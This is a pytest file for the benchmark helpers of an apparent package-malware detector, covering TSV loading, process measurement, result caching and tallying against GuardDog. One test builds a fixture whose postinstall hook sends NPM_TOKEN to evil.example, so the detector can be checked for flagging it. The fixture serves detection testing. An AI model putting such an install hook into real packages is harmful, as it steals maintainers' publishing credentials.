"""Tests of the benchmark helpers (not of the figures): run with
``.venv/bin/pytest bench/test_bench.py`` (outside the default ``tests/`` path on purpose: CI does
not time benchmarks). No network; the engine runs on packages written into tmp dirs here.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))

import _common as common
import detect


def _write_tsv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    path.write_text("\n".join("\t".join(r) for r in [header, *rows]) + "\n", encoding="utf-8")
    return path


SHA = "a" * 64


def test_read_tsv_names_file_line_and_field(tmp_path: Path) -> None:
    tsv = _write_tsv(tmp_path / "x.tsv", ["name", "version"], [["a", "1"], ["b", ""]])
    with pytest.raises(common.CorpusError, match=r"x\.tsv:3: field 'version' is empty"):
        common.read_tsv(tsv, ["name", "version"])


def test_read_tsv_reports_missing_column(tmp_path: Path) -> None:
    tsv = _write_tsv(tmp_path / "x.tsv", ["name"], [["a"]])
    with pytest.raises(common.CorpusError, match="missing column"):
        common.read_tsv(tsv, ["name", "sha256"])


def test_pypi_version_falls_back_to_the_file_name(tmp_path: Path) -> None:
    _write_tsv(
        tmp_path / "pypi-benign.tsv",
        ["name", "version", "filename", "sha256", "size", "category"],
        [
            ["sib-api-v3-sdk", "", "sib-api-v3-sdk-7.6.0.tar.gz", SHA, "1", "email"],
            ["attrs", "26.1.0", "attrs-26.1.0-py3-none-any.whl", SHA, "1", "popular"],
        ],
    )
    rows = common.load_pypi_benign(tmp_path)
    assert [r.version for r in rows] == ["7.6.0", "26.1.0"]


def test_pypi_row_without_any_version_is_refused(tmp_path: Path) -> None:
    _write_tsv(
        tmp_path / "pypi-benign.tsv",
        ["name", "version", "filename", "sha256", "category"],
        [["x", "", "garbage", SHA, "email"]],
    )
    with pytest.raises(common.CorpusError, match=r"pypi-benign\.tsv:2: field 'version'"):
        common.load_pypi_benign(tmp_path)


def test_bad_sha256_is_refused(tmp_path: Path) -> None:
    _write_tsv(
        tmp_path / "pypi-benign.tsv",
        ["name", "version", "filename", "sha256", "category"],
        [["x", "1", "x-1.tar.gz", "abc", "email"]],
    )
    with pytest.raises(common.CorpusError, match="not 64 hex digits"):
        common.load_pypi_benign(tmp_path)


def test_malicious_path_must_stay_inside_the_corpus(tmp_path: Path) -> None:
    _write_tsv(
        tmp_path / "npm-malicious.tsv",
        ["name", "version", "label", "dir"],
        [["evil", "1.0.0", "malicious", "../outside"]],
    )
    (tmp_path.parent / "outside").mkdir(exist_ok=True)
    with pytest.raises(common.CorpusError, match="points outside the corpus"):
        common.load_npm_malicious(tmp_path)


def test_parse_guarddog_json_counts_distinct_rules() -> None:
    out = "log line\n" + json.dumps(
        {
            "package": "x",
            "issues": 3,
            "errors": {},
            "risk_score": {"score": 8.6, "label": "high_risk"},
            "results": {
                "rule-a": {"f.js:1": "m"},
                "rule-b": [{"x": 1}, {"y": 2}],
                "rule-c": {},
                "rule-d": [],
            },
        }
    )
    parsed = common.parse_guarddog_json(out)
    assert (parsed.issues, parsed.rules, parsed.errors) == (3, ("rule-a", "rule-b"), ())
    assert (parsed.risk_label, parsed.risk_score) == ("high_risk", 8.6)
    assert common.GuardDogResult.from_json(parsed.to_json()) == parsed


def test_parse_guarddog_json_rejects_other_output() -> None:
    with pytest.raises(ValueError):
        common.parse_guarddog_json("Traceback (most recent call last): boom")


def test_run_measured_reports_exit_output_and_memory() -> None:
    code = "import sys; b = bytearray(60 * 1024 * 1024); print('hi'); sys.exit(3)"
    m = common.run_measured([sys.executable, "-c", code], timeout=60)
    assert (m.returncode, m.stdout.strip(), m.timed_out) == (3, "hi", False)
    assert m.max_rss_kb > 60 * 1024  # the 60 MB buffer shows in the child's peak RSS
    small = common.run_measured([sys.executable, "-S", "-c", "pass"], timeout=60)
    assert 0 < small.max_rss_kb < 40 * 1024  # not inflated by the (large) measuring process


def test_run_measured_kills_on_timeout() -> None:
    m = common.run_measured([sys.executable, "-c", "import time; time.sleep(30)"], timeout=0.5)
    assert m.timed_out and m.seconds < 10


def test_result_store_forgets_results_of_another_engine_version(tmp_path: Path) -> None:
    path = tmp_path / "ours.json"
    store = common.ResultStore.load(path, "engine:1")
    store.put("k", {"level": "high", "score": 70})
    store.save()
    assert common.ResultStore.load(path, "engine:1").get("k") == {"level": "high", "score": 70}
    assert common.ResultStore.load(path, "engine:2").get("k") is None
    path.write_text("{not json", encoding="utf-8")
    assert common.ResultStore.load(path, "engine:1").results == {}


def test_format_table_aligns_numbers_right_and_text_left() -> None:
    text = common.format_table(("name", "n", "note"), [["a", 5, "x"], ["bbb", 12, "long note"]])
    lines = text.splitlines()
    assert lines[2] == "a      5  x"
    assert lines[3] == "bbb   12  long note"


def _package(root: Path, manifest: dict[str, object], files: dict[str, str]) -> Path:
    root.mkdir(parents=True)
    (root / "package.json").write_text(json.dumps(manifest), encoding="utf-8")
    for rel, text in files.items():
        (root / rel).write_text(text, encoding="utf-8")
    return root


def test_run_engine_diff_flags_an_added_install_hook(tmp_path: Path) -> None:
    """The real engine (no mocks) on two tiny versions written here: the new one adds a hook."""
    base = {"name": "bench-fixture", "main": "index.js"}
    old = _package(tmp_path / "old", {**base, "version": "1.0.0"}, {"index.js": "module.exports = 1;\n"})
    new = _package(
        tmp_path / "new",
        {**base, "version": "1.0.1", "scripts": {"postinstall": "node setup.js"}},
        {
            "index.js": "module.exports = 1;\n",
            "setup.js": "const h=require('https');h.get('https://evil.example/x?d='+process.env.NPM_TOKEN);\n",
        },
    )
    cache = tmp_path / "cache"
    diff = common.run_engine(common.EngineTask("d", "diff", (str(old), str(new))), cache)
    assert diff.error is None, diff.error
    assert diff.severity >= detect.HIGH
    assert any("install" in title.lower() for _, _, title in diff.findings)
    same = common.run_engine(common.EngineTask("s", "diff", (str(old), str(old))), cache)
    assert same.error is None and same.severity < detect.HIGH


def test_run_engine_turns_failures_into_an_error_verdict(tmp_path: Path) -> None:
    verdict = common.run_engine(common.EngineTask("x", "inspect", (str(tmp_path / "nope.tgz"),)), tmp_path)
    assert verdict.level == "error" and verdict.error and "nope.tgz" in verdict.error
    assert verdict.severity == -1
    assert common.Verdict.from_json(verdict.to_json()) == verdict


def _sample(group: str, category: str, key: str, gd_key: str | None = None) -> detect.Sample:
    job = detect.GuardDogJob(gd_key, "npm", Path("/x")) if gd_key else None
    return detect.Sample(group, category, key, common.EngineTask(key, "inspect", ("x",)), job)


def test_tally_counts_alarms_errors_and_guarddog_thresholds() -> None:
    samples = [
        _sample("npm-inspect", "mcp", "a", "ga"),
        _sample("npm-inspect", "mcp", "b", "gb"),
        _sample("npm-inspect", "email", "c", "gc"),
    ]
    ours = {
        "a": common.Verdict("high", 66, (("high", "R1", "t"),)),
        "b": common.Verdict("medium", 35),
        "c": common.Verdict("error", 0, error="boom"),
    }
    peer = {
        "ga": common.GuardDogResult(2, ("r1", "r2"), 1.0, 1, risk_label="high_risk"),
        "gb": common.GuardDogResult(1, ("r1",), 1.0, 1),
        "gc": common.GuardDogResult(0, (), 1.0, 1),
    }
    rows = {r[0]: r for r in detect.tally_rows(samples, ours, peer)}
    mcp = rows["npm benign: inspect NEW [mcp]"]
    assert mcp[2:6] == [2, 1, " 50.0%", 0]
    assert mcp[6:14] == [2, 2, "100.0%", 1, " 50.0%", 1, " 50.0%", 0]
    total = rows["npm benign: inspect NEW [all]"]
    assert total[2:6] == [3, 1, " 33.3%", 1]
    details = "\n".join(detect.detail_lines(samples, ours, peer))
    assert "- a [mcp]: high" in details and "ERROR boom" in details and "- b [mcp]" not in details
    assert "R1: e.g. t" in details
